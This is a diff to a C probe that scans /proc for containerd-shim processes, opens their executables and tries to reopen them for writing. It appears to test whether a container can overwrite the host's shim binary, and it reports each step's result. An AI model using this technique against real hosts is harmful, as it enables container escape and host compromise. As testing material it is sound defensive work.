@@ -33,17 +33,30 @@ static void run(int fd)
 	waitpid(child, NULL, 0);
 }
 
+static int is_shim(const char *link)
+{
+	char target[4096] = "";
+	return readlink(link, target, sizeof target - 1) > 0 && strstr(target, "containerd-shim");
+}
+
 static void attack(const char *exe)
 {
 	char again[64];
 	struct stat st;
 	int fd = open(exe, O_RDONLY | O_CLOEXEC);
-	result("read", fd);
-	if (fd < 0 || fstat(fd, &st) < 0)
+	if (fd < 0) {
+		result("read", fd);
 		return;
+	}
+	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
+	/* Between the look at the link and the open the process may have become the container's command. */
+	if (!is_shim(again) || fstat(fd, &st) < 0) {
+		close(fd);
+		return;
+	}
+	result("read", fd);
 	/* Unprotected this succeeds and changes nothing; a running program that can be written to is ETXTBSY. */
 	result("mode", fchmod(fd, st.st_mode & 07777));
-	snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
 	int write = open(again, O_WRONLY | O_CLOEXEC);
 	result("write", write);
 	if (write >= 0)
@@ -61,11 +74,11 @@ int main(int argc, char **argv)
 	for (;;) {
 		DIR *proc = opendir("/proc");
 		for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
-			char exe[64], target[4096] = "";
+			char exe[64];
 			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
 				continue;
 			snprintf(exe, sizeof exe, "/proc/%.16s/exe", entry->d_name);
-			if (readlink(exe, target, sizeof target - 1) > 0 && strstr(target, "containerd-shim"))
+			if (is_shim(exe))
 				attack(exe);
 		}
 		closedir(proc);
